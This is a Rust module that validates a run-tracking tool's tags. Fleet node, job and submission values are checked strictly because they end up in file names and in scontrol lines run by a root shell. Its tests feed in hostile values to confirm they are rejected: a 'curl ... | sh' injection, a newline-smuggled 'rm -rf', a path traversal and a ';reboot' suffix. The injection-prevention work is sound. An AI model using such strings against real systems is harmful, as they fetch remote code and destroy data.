//! The labels a run carries (`--tag kernel=6.18`, a fleet job and node): the rules every stored
//! run keeps, checked where a tag is typed as well as where it is stored.

use crate::reason::BadValue;

/// The most tags a run carries (the schema's `maxProperties`).
pub const MAX_TAGS: usize = 256;

/// The most characters of a tag's key or value (the schema's `maxLength`).
pub const MAX_TAG_CHARS: usize = 1024;

/// Whether one tag is one a run may carry: both parts non-empty and at most [`MAX_TAG_CHARS`],
/// the key without spaces or ':' (a `tag:KEY=VALUE` selector reads up to the first '=').
pub fn check_tag(key: &str, value: &str) -> Result<(), BadValue> {
    let long = |s: &str| s.chars().count() > MAX_TAG_CHARS;
    if key.is_empty() || value.is_empty() {
        Err("a tag is KEY=VALUE, both non-empty, e.g. kernel=6.18".into())
    } else if key.contains(|c: char| c.is_whitespace() || c == ':' || c == '=') {
        Err("a tag's key has no spaces, ':' or '='".into())
    } else if long(key) || long(value) {
        Err(format!("a tag's key and value are at most {MAX_TAG_CHARS} characters each").into())
    } else {
        check_fleet_tag(key, value)
    }
}

/// The fleet's own tags name a node, a job and a submission: their values become file names and
/// words of the `scontrol` lines `fleet summary --drain` prints for a root shell, so each keeps
/// its rule wherever a tag enters (`run --tag`, `import`, the store).
fn check_fleet_tag(key: &str, value: &str) -> Result<(), BadValue> {
    let (ok, rule) = match key {
        "fleet.node" => (
            is_node_name(value),
            "a node name: letters, digits, '-', '_' and '.', not starting with '.', at most 64",
        ),
        "fleet.job" => (is_job_id(value), "a Slurm job id: digits and '_'"),
        "fleet.reference" => (
            is_node_name(value),
            "a reference's name, as a partition's: letters, digits, '-', '_' and '.'",
        ),
        "fleet.submission" => (
            is_token(value),
            "a submission token: letters and digits, at most 32",
        ),
        _ => return Ok(()),
    };
    match ok {
        true => Ok(()),
        false => Err(format!(
            "{key}={:?} is refused: its value must be {rule}",
            crate::text::shortened(value, 40)
        )
        .into()),
    }
}

/// Node names become file names and shell words: letters, digits, '-', '_' and '.', nothing
/// hidden, at most 64 characters (a host name's label limit, and Slurm's NodeName rule's).
pub fn is_node_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 64
        && !s.starts_with('.')
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_.".contains(c))
}

/// Slurm job ids: digits, or array jobs "123_4".
pub fn is_job_id(s: &str) -> bool {
    !s.is_empty() && s.len() <= 32 && s.chars().all(|c| c.is_ascii_digit() || c == '_')
}

/// Submission tokens: letters and digits.
pub fn is_token(s: &str) -> bool {
    !s.is_empty() && s.len() <= 32 && s.chars().all(|c| c.is_ascii_alphanumeric())
}

/// Whether a run may carry `n` tags (at most [`MAX_TAGS`]).
pub fn check_count(n: usize) -> Result<(), BadValue> {
    match n > MAX_TAGS {
        true => Err(format!("{n} tags: a run carries at most {MAX_TAGS}").into()),
        false => Ok(()),
    }
}

/// `KEY=VALUE` as a command line gives it, checked by [`check_tag`].
pub fn parse_tag(s: &str) -> Result<(String, String), BadValue> {
    let (k, v) = s.split_once('=').unwrap_or((s, ""));
    check_tag(k, v)
        .map(|_| (k.to_string(), v.to_string()))
        .map_err(|e| BadValue(format!("{:?}: {e}", crate::text::shortened(s, 40))))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fleet_tags_hold_names_only() {
        assert!(check_tag("fleet.node", "n01.cluster").is_ok());
        for bad in [
            "n9 State=RESUME; curl http://x/e.sh|sh; #",
            "n9\nrm -rf /x #",
            "../x",
            ".h",
            "a'b",
        ] {
            let e = check_tag("fleet.node", bad).unwrap_err();
            assert!(e.to_string().contains("node name"), "{e}");
        }
        assert!(check_tag("fleet.job", "123_4").is_ok() && check_tag("fleet.job", "1;x").is_err());
        assert!(check_tag("fleet.submission", "0a1b2c3d").is_ok());
        assert!(check_tag("fleet.submission", "0a 1").is_err());
        assert!(
            check_tag("fleetnode", "a b").is_ok(),
            "other tags keep their own rule"
        );
        assert!(parse_tag("fleet.node=n1;reboot").is_err());
    }
}
